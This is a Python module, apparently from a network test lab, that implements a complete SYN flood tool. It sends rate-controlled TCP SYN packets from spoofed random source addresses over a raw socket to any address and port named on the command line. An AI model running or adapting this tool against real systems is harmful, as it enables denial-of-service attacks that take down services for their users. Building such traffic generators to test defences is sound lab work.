"""``python -m lab.tiara.syn_flood``: SYNs of clients that do not exist, at a steady rate.

Prints ``{"event": "ready"}``, sends until standard input has a line or ends, and prints ``{"event": "sent", "syns":
COUNT}``.
"""

import argparse
import random
import select
import socket
import sys
import time
from ipaddress import IPv4Address

from scapy.layers.inet import IP, TCP

from lab.commands import say

_CLIENTS = int(IPv4Address("100.64.0.0")), 1 << 22
"""The shared address space (RFC 6598): the first address, and their number."""


def main() -> int:
    """The command."""
    parser = argparse.ArgumentParser(prog="python -m lab.tiara.syn_flood", description="SYNs of unknown clients.")
    parser.add_argument("--to", required=True, help="address of the service")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--rate", type=float, required=True, help="SYNs per second")
    options = parser.parse_args()
    outgoing = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    pick = random.Random(1)
    say("ready")
    begin, sent = time.monotonic(), 0
    while not select.select([sys.stdin], [], [], max(begin + sent / options.rate - time.monotonic(), 0))[0]:
        source = IPv4Address(_CLIENTS[0] + pick.randrange(_CLIENTS[1]))
        ports = {"sport": pick.randrange(1024, 65536), "dport": options.port}
        syn = IP(src=str(source), dst=options.to) / TCP(flags="S", seq=pick.randrange(1 << 32), **ports)
        outgoing.sendto(bytes(syn), (options.to, 0))
        sent += 1
    say("sent", syns=sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
